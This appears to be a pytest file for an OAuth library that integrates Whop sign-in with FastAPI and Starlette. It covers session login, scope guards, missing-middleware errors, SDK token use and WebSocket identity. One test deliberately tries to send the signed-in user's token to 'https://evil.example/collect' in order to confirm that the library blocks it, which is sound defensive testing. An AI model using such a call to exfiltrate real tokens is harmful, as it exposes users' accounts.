"""FastAPI, ``@requires``, a missing middleware, and the official whop-sdk."""

from __future__ import annotations

import functools
from typing import Annotated

import httpx
import pytest
from fastapi import Depends, FastAPI
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route, WebSocketRoute
from starlette.types import Message
from starlette.websockets import WebSocket
from starlette_support import Env, session_cookie_value
from whop_sdk import AsyncWhop
from whop_sdk.environment import WhopEnvironment

from whop_oauth import ConfigurationError, MiddlewareNotInstalled
from whop_oauth.starlette import WhopUser, current_user, user_http_client

SignedIn = Annotated[WhopUser | None, Depends(current_user)]


async def test_fastapi_works_unchanged_with_routes_middleware_and_a_dependency(env: Env) -> None:
    app = FastAPI(routes=env.whop.routes, middleware=[env.whop.middleware])

    @app.get("/whoami")
    async def whoami(user: SignedIn) -> dict[str, str | None]:
        return {"id": user.id if user else None, "email": user.email if user else None}

    @app.get("/userinfo")
    async def userinfo(request: Request) -> dict[str, object]:
        response = await user_http_client(request).get("/accounts/me")
        return {"status": response.status_code, "id": response.json()["id"]}

    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://127.0.0.1:8000"
    ) as browser:
        assert (await browser.get("/whoami")).json() == {"id": None, "email": None}
        assert (await env.sign_in(browser)).status_code == 303
        assert (await browser.get("/whoami")).json() == {
            "id": "user_mock1",
            "email": "mock.user@example.com",
        }
        assert (await browser.get("/userinfo")).json() == {"status": 200, "id": "user_mock1"}


async def test_requires_guards_endpoints_by_granted_scope(
    env: Env, browser: httpx.AsyncClient
) -> None:
    assert (await browser.get("/email")).status_code == 403

    await env.sign_in(browser)

    assert (await browser.get("/email")).json() == {"email": "mock.user@example.com"}
    assert (await browser.get("/billing")).status_code == 403


async def test_helpers_without_the_middleware_say_how_to_install_it(env: Env) -> None:
    async def page(request: Request) -> JSONResponse:
        return JSONResponse({"user": str(current_user(request))})

    app = Starlette(routes=[Route("/", page), *env.whop.routes])
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://127.0.0.1:8000"
    ) as client:
        for path in ("/", "/auth/login", "/auth/callback?state=x"):
            with pytest.raises(MiddlewareNotInstalled, match=r"WhopAuth\(\.\.\.\)\.middleware"):
                await client.get(path)


async def test_user_http_client_refuses_to_send_the_token_to_another_origin(
    env: Env, browser: httpx.AsyncClient
) -> None:
    async def leak(request: Request) -> JSONResponse:
        await user_http_client(request).get("https://evil.example/collect")
        return JSONResponse({})

    env.app.router.routes.append(Route("/leak", leak))
    await env.sign_in(browser)

    with pytest.raises(ConfigurationError, match="only sent to the provider"):
        await browser.get("/leak")


async def test_the_official_sdk_calls_whop_with_the_users_fresh_token(
    env: Env, browser: httpx.AsyncClient
) -> None:
    await env.sign_in(browser)
    seen: list[str] = []

    def whop_api(request: httpx.Request) -> httpx.Response:
        seen.append(request.headers["authorization"])
        return httpx.Response(200, json={"access_level": "customer", "has_access": True})

    async with httpx.AsyncClient(transport=httpx.MockTransport(whop_api)) as sdk_http:
        whop = AsyncWhop(
            async_token=functools.partial(
                env.manager.access_token, user="user_mock1", tenant="default"
            ),
            httpx_client=sdk_http,
            environment=WhopEnvironment.PRODUCTION,
        )
        access = await whop.users.check_access("user_mock1", "prod_1")

    stored = await env.store.get(env.client.token_key("user_mock1", "default"))
    assert stored is not None
    assert access.has_access is True
    assert seen == [f"Bearer {stored.token.access_token}"]


async def test_websockets_see_the_signed_in_user(env: Env, browser: httpx.AsyncClient) -> None:
    async def hello(websocket: WebSocket) -> None:
        await websocket.accept()
        await websocket.send_json({"user": websocket.user.identity})
        await websocket.close()

    await env.sign_in(browser)
    app = Starlette(routes=[WebSocketRoute("/ws", hello)], middleware=[env.whop.middleware])
    cookie = f"whop_session={session_cookie_value(browser)}".encode()
    incoming = [{"type": "websocket.connect"}]
    sent: list[Message] = []

    async def receive() -> Message:
        return incoming.pop(0) if incoming else {"type": "websocket.disconnect", "code": 1000}

    async def send(message: Message) -> None:
        sent.append(message)

    scope = {
        "type": "websocket", "asgi": {"version": "3.0"}, "path": "/ws", "raw_path": b"/ws",
        "root_path": "", "scheme": "ws", "query_string": b"", "server": ("127.0.0.1", 8000),
        "headers": [(b"host", b"127.0.0.1:8000"), (b"cookie", cookie)], "subprotocols": [],
    }
    await app(scope, receive, send)

    assert [m["type"] for m in sent] == ["websocket.accept", "websocket.send", "websocket.close"]
    assert sent[1]["text"] == '{"user":"user_mock1"}'
